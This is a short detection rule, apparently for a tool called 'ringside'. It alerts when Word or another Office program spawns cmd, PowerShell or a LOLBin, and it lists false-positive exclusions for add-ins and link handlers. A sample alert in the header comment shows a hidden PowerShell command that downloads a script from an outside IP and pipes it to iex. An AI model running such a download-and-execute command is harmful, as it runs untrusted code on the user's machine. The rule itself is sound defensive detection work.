// ringside: title="Office starts a shell or a program that runs others' code" technique=T1204.002,T1566.001,T1059 level=high tags=windows,execution
//
// A document that is opened has no need of cmd, PowerShell, script hosts or the programs of Windows that fetch and run what somebody else wrote.
//
//     > ringside run office-shell.js -o line
//     time=2026-05-05T08:12:40.150000000Z level=high rule=office-shell message="CORP\\ada: WINWORD.EXE started powershell.exe: powershell.exe -nop -w hidden -c iwr http://198.51.100.23/a.ps1|iex"
//
// Known false positives: add-ins that start helpers through cmd, add their command lines to `addIns`; Outlook opening a link with rundll32 is left out.
// References: https://attack.mitre.org/techniques/T1204/002/ https://lolbas-project.github.io

import { lolbins, officePrograms, windowsShells } from "ringside:lists";
import { shorten } from "ringside:text";

const targets = [...windowsShells, ...lolbins];
const addIns = /\\(Citrix|Adobe\\Acrobat|Grammarly|WebEx)\\/i;
const opensLinks = /url\.dll,FileProtocolHandler|shell32\.dll,(OpenAs_RunDLL|Control_RunDLL)|davclnt\.dll,DavSetCookie/i;

procs
    .where(os == "windows" && parent.in(officePrograms) && name.in(targets) && !cmdline.matches(addIns) && !cmdline.matches(opensLinks))
    .alert((e) => `${e.user}: ${e.parent} started ${e.name}: ${shorten(e.cmdline)}`);
